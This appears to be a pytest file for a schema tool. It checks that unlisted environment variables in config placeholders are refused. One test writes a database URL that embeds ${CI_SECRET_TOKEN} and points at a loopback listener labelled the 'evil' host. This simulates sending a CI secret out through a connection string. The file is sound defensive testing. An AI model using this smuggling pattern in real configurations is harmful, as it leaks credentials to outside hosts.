"""16.6: ``${VAR}`` in the configuration expands only DATABASE_URL, SCHEMAGUARD_* and names listed in
``env_allow``; any other variable is an error naming it, and its value is never read or sent anywhere."""

from __future__ import annotations

import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import ROOT
from tests.helpers import run_cli

TOKEN = "ghp_secretTokenValue123"


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A TCP port on loopback that records every connection made to it (the "evil" host)."""
    received: list[bytes] = []
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.2)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(1)
                try:
                    received.append(conn.recv(4096) or b"<connected>")
                except OSError:
                    received.append(b"<connected>")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], received
    stop.set()
    thread.join()
    server.close()


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "m.yaml").write_bytes((ROOT / "tests" / "fixtures" / "drift_master.yaml").read_bytes())
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CI_SECRET_TOKEN", TOKEN)
    return tmp_path


@pytest.mark.parametrize(
    ("command", "key"),
    [(["diff"], "targets.dev.url"), (["inspect"], "targets.dev.url"), (["validate"], "targets.dev.url")],
)
def test_unlisted_variable_is_refused_and_never_sent(
    command: list[str],
    key: str,
    project: Path,
    listener: tuple[int, list[bytes]],
    capsys: pytest.CaptureFixture[str],
) -> None:
    port, received = listener
    (project / "schemaguard.toml").write_text(
        f'master = "m.yaml"\ndefault_target = "dev"\n[targets.dev]\n'
        f'url = "postgresql://u@127.0.0.1:{port}/${{CI_SECRET_TOKEN}}"\n',
        encoding="utf-8",
    )
    code, out, err = run_cli(command, capsys)
    assert code == 2
    assert f"schemaguard.toml:4: ${{CI_SECRET_TOKEN}} in {key} is not expanded" in err
    assert 'env_allow = ["CI_SECRET_TOKEN"]' in err
    assert TOKEN not in out + err
    assert received == []


def test_variable_in_any_key_is_checked(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (project / "schemaguard.toml").write_text('master = "m.yaml"\ndev_url = "postgresql://h/${HOME}"\n')
    code, _, err = run_cli(["render"], capsys)
    assert code == 2 and "schemaguard.toml:2: ${HOME} in dev_url is not expanded" in err


def test_allowed_variables_expand(
    project: Path, monkeypatch: pytest.MonkeyPatch, sqlite_url: str, capsys: pytest.CaptureFixture[str]
) -> None:
    from tests.helpers import build_from_master

    build_from_master(sqlite_url, project / "m.yaml")
    monkeypatch.setenv("SCHEMAGUARD_DEV_URL", sqlite_url)
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    monkeypatch.setenv("MY_DB", sqlite_url)
    (project / "schemaguard.toml").write_text(
        'master = "m.yaml"\ndialect = "sqlite"\nenv_allow = ["MY_DB"]\n'
        '[targets.a]\nurl = "${SCHEMAGUARD_DEV_URL}"\n[targets.b]\nurl = "${DATABASE_URL}"\n'
        '[targets.c]\nurl = "${MY_DB}"\n[targets.d]\nurl = "${SCHEMAGUARD_UNSET_X:-' + sqlite_url + '}"\n',
        encoding="utf-8",
    )
    monkeypatch.delenv("SCHEMAGUARD_UNSET_X", raising=False)
    for target in ("a", "b", "c", "d"):
        code, _, err = run_cli(["diff", "--target", target], capsys)
        assert code == 0, (target, err)


def test_fallback_does_not_bypass_the_allow_list(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (project / "schemaguard.toml").write_text(
        'master = "m.yaml"\n[targets.dev]\nurl = "${CI_SECRET_TOKEN:-sqlite:///x.db}"\n', encoding="utf-8"
    )
    code, out, err = run_cli(["diff", "--target", "dev"], capsys)
    assert code == 2 and "${CI_SECRET_TOKEN} in targets.dev.url is not expanded" in err
    assert TOKEN not in out + err


def test_env_allow_must_hold_variable_names(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (project / "schemaguard.toml").write_text('master = "m.yaml"\nenv_allow = ["A B"]\n')
    code, _, err = run_cli(["render"], capsys)
    assert code == 2 and "schemaguard.toml:2: env_allow: 'A B' is not an environment variable name" in err
